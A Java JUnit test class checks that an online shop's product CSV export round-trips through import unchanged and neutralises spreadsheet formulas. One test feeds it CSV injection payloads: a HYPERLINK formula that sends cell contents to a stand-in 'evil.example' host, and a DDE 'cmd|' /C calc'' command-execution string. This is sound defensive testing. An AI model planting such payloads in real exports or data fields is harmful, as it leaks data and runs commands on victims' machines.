package com.bharatmart.productimport;

import static org.assertj.core.api.Assertions.assertThat;

import com.bharatmart.catalog.ProductAdminService;
import com.bharatmart.catalog.ProductAdminView;
import com.bharatmart.catalog.ProductDrafts;
import com.bharatmart.catalog.ProductForm;
import com.bharatmart.catalog.ProductId;
import com.bharatmart.catalog.ProductImage;
import com.bharatmart.catalog.ProductStatus;
import com.bharatmart.catalog.ProductUpsertService;
import com.bharatmart.catalog.VariantDraft;
import com.bharatmart.identity.TestAccounts;
import com.bharatmart.platform.security.Role;
import com.bharatmart.shared.Money;
import com.bharatmart.shared.Sku;
import com.bharatmart.testing.HttpTest;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import de.siegmar.fastcsv.writer.CsvWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Importing an exported file again changes nothing. */
@HttpTest
class ProductExportTest {

    @Autowired
    TestAccounts people;

    @Autowired
    ProductUpsertService upsertService;

    @Autowired
    ProductAdminService productAdmin;

    @Autowired
    ProductImporter importer;

    @Autowired
    ProductExportService exports;

    @Autowired
    JdbcClient jdbc;

    @Test
    void importingAnExportChangesNothing() throws IOException {
        var handle = ProductDrafts.unique("x");
        awkward(handle);
        upsertService.upsert(List.of(
                ProductDrafts.of("Lamp")
                        .rated("4.5")
                        .in("Home", "Lamps & more")
                        .draft(handle + "-2", List.of(), one(handle + "-2")),
                ProductDrafts.of("Rug").hidden().draft(handle + "-3", List.of(), one(handle + "-3"))));
        jdbc.sql("UPDATE stock_level SET available = available - 2, sold = sold + 2 WHERE sku = ?")
                .param(handle + "-2")
                .update();
        var before = state(handle);

        var report = importer.run(exported(handle, handle));

        assertThat(report.rejected()).isEmpty();
        assertThat(report.products()).isEqualTo(3);
        assertThat(state(handle)).isEqualTo(before);
    }

    @Test
    void everyProductIsInTheFile() throws IOException {
        var handle = ProductDrafts.unique("many");
        var csv = new ProductCsv();
        IntStream.range(0, 450).forEach(i -> csv.product(handle + "-" + i));
        importer.run(csv.stream());

        var answer = people.staff(Role.CATALOGUE).get("/api/v1/admin/exports/products.csv");

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.header("Content-Type").orElseThrow()).startsWith("text/csv");
        assertThat(answer.text().lines().filter(line -> line.startsWith(handle)))
                .hasSize(450)
                .doesNotHaveDuplicates();
        assertThat(answer.text()).doesNotContain("Variant Inventory Qty");
    }

    @Test
    void anArchivedProductStaysArchived() throws IOException {
        var handle = ProductDrafts.unique("x");
        var made = awkward(handle);
        productAdmin.archive(made.id(), new com.bharatmart.platform.request.IfMatch(null));

        importer.run(exported(handle, handle + "-again"));

        var again = productAdmin.viewOf(new Sku(handle + "-again-S"));
        assertThat(again.form().status()).isEqualTo(ProductStatus.ARCHIVED);
        assertThat(again.form().variants()).hasSize(2);
    }

    @Test
    void noCellIsAFormulaAndEachComesBack() throws IOException {
        var handle = ProductDrafts.unique("x");
        var made = productAdmin.create(
                handle,
                new ProductForm(
                        "=HYPERLINK(\"https://evil.example?\"&A1)",
                        "@SUM(1+1)*cmd|' /C calc'!A0",
                        "+91 Brand",
                        null,
                        List.of("-1+1", "two"),
                        ProductStatus.ACTIVE,
                        null,
                        List.of("@Size"),
                        List.of(
                                formulaic("=" + handle, "-S", "'+1"),
                                formulaic("'" + handle, "'=S", "=1"),
                                formulaic("'='" + handle, "''S", "'1")),
                        List.of(new ProductImage("https://media.example/" + handle + ".jpg", "=1+1")),
                        Map.of()));

        var file = new ByteArrayOutputStream();
        exports.write(file);
        try (var reader = CsvReader.builder().ofCsvRecord(file.toString(StandardCharsets.UTF_8))) {
            assertThat(reader.stream().flatMap(record -> record.getFields().stream()))
                    .noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r\\n].*"));
        }
        var report = importer.run(exported(handle, handle));

        assertThat(report.rejected()).isEmpty();
        assertThat(productAdmin.view(made.id())).isEqualTo(made);
    }

    private static ProductForm.Variant formulaic(String sku, String size, String barcode) {
        return new ProductForm.Variant(
                new Sku(sku),
                List.of(size),
                Money.inr(100),
                Money.inr(100),
                0,
                null,
                barcode,
                "https://media.example/v.jpg");
    }

    private ProductAdminView awkward(String handle) {
        return productAdmin.create(
                handle,
                new ProductForm(
                        "Pot, \"small\" = काला घड़ा",
                        "<p>Two lines,\nwith \"marks\"</p>",
                        "O'Neil & Söhne",
                        null,
                        List.of("one", "two words"),
                        ProductStatus.ACTIVE,
                        "IN",
                        List.of("Size", "Colour, shade"),
                        List.of(
                                new ProductForm.Variant(
                                        new Sku(handle + "-S"),
                                        List.of("S", "light, blue"),
                                        Money.inr(101),
                                        Money.inr(101),
                                        0,
                                        null,
                                        "'0012",
                                        null),
                                new ProductForm.Variant(
                                        new Sku(handle + "-M"),
                                        List.of("M", "\"red\""),
                                        Money.inr(49950),
                                        Money.inr(1_000_000_000),
                                        1_000,
                                        "691410",
                                        null,
                                        null)),
                        List.of(
                                new ProductImage("https://media.example/" + handle + "/b.jpg", "Back, side"),
                                new ProductImage("https://media.example/" + handle + "/a.jpg", null),
                                new ProductImage("https://media.example/" + handle + "/c.jpg", "C")),
                        Map.of()));
    }

    private static List<VariantDraft> one(String sku) {
        return List.of(ProductDrafts.variant(sku, 49900));
    }

    /** The rows of the export whose handles have a prefix, with another prefix. */
    private InputStream exported(String handle, String renamed) throws IOException {
        var file = new ByteArrayOutputStream();
        exports.write(file);
        var ours = new StringWriter();
        var writer = CsvWriter.builder().build(ours);
        try (var reader = CsvReader.builder().ofCsvRecord(file.toString(StandardCharsets.UTF_8))) {
            reader.stream()
                    .map(CsvRecord::getFields)
                    .filter(fields -> fields.getFirst().equals("Handle")
                            || fields.getFirst().startsWith(handle))
                    .map(fields -> fields.stream()
                            .map(field -> field.replace(handle, renamed))
                            .toList())
                    .forEach(writer::writeRecord);
        }
        writer.flush();
        return ProductCsv.stream(ours.toString());
    }

    private List<Object> state(String handle) {
        var state = new ArrayList<Object>();
        jdbc.sql("SELECT id FROM product WHERE slug LIKE ? ORDER BY id")
                .param(handle + "%")
                .query((row, _) -> new ProductId(row.getObject(1, UUID.class)))
                .list()
                .forEach(id -> state.add(productAdmin.view(id)));
        state.addAll(jdbc.sql(
                        "SELECT sku, available, reserved, sold, counted, adjusted FROM stock_level WHERE sku LIKE ? ORDER BY sku")
                .param(handle + "%")
                .query()
                .listOfRows());
        state.add(jdbc.sql("SELECT count(*) FROM category").query(Long.class).single());
        return state;
    }
}
